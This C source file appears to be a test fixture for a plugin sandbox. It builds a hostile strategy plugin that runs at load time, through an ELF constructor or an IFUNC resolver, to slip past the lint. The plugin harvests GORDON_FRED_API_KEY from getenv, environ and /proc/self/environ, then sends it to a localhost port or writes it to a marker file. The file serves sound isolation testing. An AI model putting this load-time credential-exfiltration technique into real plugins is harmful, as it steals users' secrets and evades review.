/* Isolation class 6: code that runs as the plugin loads, before the host
 * could call anything: a constructor (ISO_CTOR) or an IFUNC resolver
 * (ISO_IFUNC), which the dynamic loader calls while it relocates the
 * plugin. Both pass the lint (they import nothing refused), so `gordon
 * plugin check` and the daemon load them, in a sandboxed worker. Each:
 *  - gathers the secret: GORDON_FRED_API_KEY through getenv and environ
 *    (libc found in memory; the constructor only: a resolver runs before
 *    the plugin's own imports are bound) and /proc/self/environ (raw);
 *  - ISO_CONNECT: connects to 127.0.0.1:PORT (raw) and sends it;
 *    ISO_MARKER: creates MARKER (raw openat) and writes it there.
 * A constructor has no parameters, so PORT and MARKER come from the
 * configuration block below, which the suite patches in its copy of the
 * .so ("GDISOCFG:port=N;marker=PATH;"). */
#include "iso.h"

/* 9 bytes of tag, then the settings: patched, so never constant-folded. */
static volatile const char iso_cfg[512] = "GDISOCFG:";

ISO_NOSAN static void iso_cfg_read(int *port, char *marker, size_t cap)
{
    char c[sizeof iso_cfg];
    for (size_t i = 0; i < sizeof c; i++)
        c[i] = iso_cfg[i];
    c[sizeof c - 1] = '\0';
    *port = 0;
    marker[0] = '\0';
    for (char *p = c + 9; *p;) {
        char *end = p;
        while (*end && *end != ';')
            end++;
        if (*end)
            *end++ = '\0';
        if (!strncmp(p, "port=", 5))
            for (const char *d = p + 5; *d >= '0' && *d <= '9'; d++)
                *port = *port * 10 + (*d - '0');
        else if (!strncmp(p, "marker=", 7))
            snprintf(marker, cap, "%s", p + 7);
        p = end;
    }
}

#ifdef ISO_CTOR
/* getenv and environ, from libc in memory. */
static void secret_from_libc(char *out, size_t cap)
{
    iso_obj libc;
    char *(*ge)(const char *);
    char ***env;
    out[0] = '\0';
    if (iso_libc_fnptr(&libc) != 0)
        return;
    ge = (char *(*)(const char *))iso_sym(&libc, "getenv");
    env = (char ***)iso_sym(&libc, "environ");
    const char *v = ge ? ge("GORDON_FRED_API_KEY") : NULL;
    int n = 0;
    for (char **e = env ? *env : NULL; e && *e; e++)
        n++;
    snprintf(out, cap, "getenv=%s environ_vars=%d", v ? v : "(none)", n);
}
#endif

ISO_NOSAN static void iso_early(const char *who)
{
    int port;
    char marker[sizeof iso_cfg], envtext[8192], procenv[256], libcenv[256] = "", msg[1024];
    iso_cfg_read(&port, marker, sizeof marker);
    long n = iso_raw_read("/proc/self/environ", envtext, sizeof envtext);
    if (n >= 0)
        iso_env_value(envtext, "GORDON_FRED_API_KEY", procenv, sizeof procenv);
    else
        snprintf(procenv, sizeof procenv, "(unreadable: %ld)", n);
#ifdef ISO_CTOR
    secret_from_libc(libcenv, sizeof libcenv);
#endif
    snprintf(msg, sizeof msg, "iso_ctor %s: %s proc_environ=%s\n", who, libcenv, procenv);
#ifdef ISO_CONNECT
    iso_raw_connect_send(port, msg);
#endif
#ifdef ISO_MARKER
    iso_raw_create(marker, msg);
#endif
}

#ifdef ISO_CTOR
__attribute__((constructor)) static void iso_ctor(void) { iso_early("constructor"); }
#endif

#ifdef ISO_IFUNC
static int iso_impl(void) { return 7; }

typedef int (*iso_impl_fn)(void);

ISO_NOSAN static iso_impl_fn iso_resolve(void)
{
    iso_early("ifunc resolver");
    return iso_impl;
}

int iso_target(void) __attribute__((ifunc("iso_resolve")));
#endif

static int create(const gordon_host_api *api, gordon_ctx *ctx, void **instance, char *err, size_t err_len)
{
    (void)api, (void)ctx, (void)err, (void)err_len;
    *instance = 0;
    return 0;
}

static void destroy(void *instance) { (void)instance; }

static void on_bar(void *instance, uint32_t symbol, const gordon_bar *bar)
{
    (void)instance, (void)bar;
#ifdef ISO_IFUNC
    if (symbol == 12345u)
        (void)iso_target();
#else
    (void)symbol;
#endif
}

static const gordon_plugin desc = {
    GORDON_PLUGIN_HEADER(GORDON_KIND_STRATEGY),
    .name = "iso_ctor",
    .version = "1.0",
    .create = create,
    .destroy = destroy,
    .on_bar = on_bar,
};

GORDON_PLUGIN_ENTRY(desc)
